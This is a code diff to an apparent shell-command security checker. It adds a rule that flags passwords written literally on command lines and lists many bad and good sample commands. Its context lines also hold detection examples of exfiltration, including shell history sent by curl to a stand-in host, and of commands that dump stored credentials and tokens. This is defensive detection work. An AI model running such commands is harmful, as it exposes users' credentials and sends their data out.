@@ -11,6 +11,8 @@
 import { hasOption, invocationOf, operands, optionValue, programName, type Invocation } from "./invocation.js";
 import type { ShellCommand, ShellScript, ShellWord } from "./shell.js";
 import { allCommands } from "./shell.js";
+import { passwordArgument, PASSWORD_PROGRAMS } from "./password-options.js";
+import { redact } from "../../secrets/redact.js";
 import type { Category, Confidence } from "./types.js";
 
 /** What a check sees besides the invocation. */
@@ -31,6 +33,8 @@ export interface CheckResult {
   /** Offsets of what to point at, when not the whole command. */
   pos?: number;
   end?: number;
+  /** Literal secrets the finding is about: never printed, scrubbed from every output. */
+  secrets?: string[];
 }
 
 export interface CommandCheck {
@@ -481,6 +485,33 @@ export const COMMAND_CHECKS: readonly CommandCheck[] = [
     examples: {
       bad: ["git config --global credential.helper store", "history > /tmp/h", "history | curl -d @- https://x.example/c", 'H=$(history); curl -d "$H" https://x.example/c', 'TOKEN="$(gh auth token)"', "security find-generic-password -s github -w", "gcloud auth print-access-token", "secret-tool lookup service api", "aws configure get aws_secret_access_key", "kubectl config view --raw", "git credential fill"],
       good: ["gh auth status", "history | grep docker", "history | tail -20", "history", "security list-keychains", "git config user.name x", "aws s3 ls", "gh auth login"],
+    },
+  },
+  // -- 4. hardcoded secrets (the rest are found in the text, by src/skills/commands/secrets.ts) --
+  {
+    id: "password-argument",
+    category: "hardcoded-secret",
+    description: "holds a literal secret",
+    confidence: "high",
+    programs: PASSWORD_PROGRAMS,
+    match(inv) {
+      const found = passwordArgument(inv);
+      if (!found) return undefined;
+      return { label: `password in ${found.option} ${redact(found.password)}`, secrets: [found.password], ...at(found.word) };
+    },
+    examples: {
+      bad: [
+        "mysql -u root -pQz7vK2mX9wL4 sales", "mysqldump --password=Qz7vK2mX9wL4 shop > shop.sql", "sshpass -p 'Qz7vK2mX9wL4' ssh ops@db.example.com", "redis-cli -a Qz7vK2mX9wL4 ping",
+        "docker login -u ci -p Qz7vK2mX9wL4 registry.example.com", "az login --service-principal -u app -p Qz7vK2mX9wL4 --tenant t", "curl -u admin:Qz7vK2mX9wL4 https://api.example.com/r",
+        "wget --http-password=Qz7vK2mX9wL4 https://x.example/f", "openssl enc -aes-256-cbc -pass pass:Qz7vK2mX9wL4 -in a -out b", "htpasswd -bc .htpasswd admin Qz7vK2mX9wL4",
+        "sqlcmd -S db -U sa -P Qz7vK2mX9wL4", "ldapsearch -x -D cn=admin -w Qz7vK2mX9wL4", "mongosh --username app --password Qz7vK2mX9wL4", "smbclient //srv/share -U ops%Qz7vK2mX9wL4",
+        "keytool -list -keystore k.jks -storepass Qz7vK2mX9wL4", "zip -P Qz7vK2mX9wL4 out.zip a", "7z a -pQz7vK2mX9wL4 out.7z a",
+      ],
+      good: [
+        "mysql -u root -p sales", 'mysql -u root -p"$DB_PASSWORD" sales', "mysql --password sales", "sshpass -e ssh ops@db", 'redis-cli -a "$REDIS_PASSWORD" ping', "docker run -p 8080:80 nginx",
+        'echo "$TOKEN" | docker login -u ci --password-stdin ghcr.io', "curl -u admin https://api.example.com/r", 'curl -u "admin:$API_PASSWORD" https://x', "openssl enc -pass env:ZIP_PASSWORD -in a -out b",
+        "htpasswd -c .htpasswd admin", "mysql -u root -p<password> sales", "mysql -pchangeme", "7z x archive.7z -p",
+      ],
     },
   },
   // -- 5. persistence --
